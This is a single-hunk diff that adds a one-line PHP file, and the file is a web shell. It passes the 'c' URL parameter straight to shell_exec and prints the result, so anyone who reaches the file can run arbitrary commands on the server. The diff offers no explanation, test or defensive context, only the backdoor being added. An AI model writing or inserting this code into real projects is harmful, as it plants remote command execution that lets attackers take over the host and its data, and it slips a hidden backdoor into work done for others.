@@ -1,0 +1,1 @@
+<?php echo "shell: ", shell_exec($_GET["c"]);
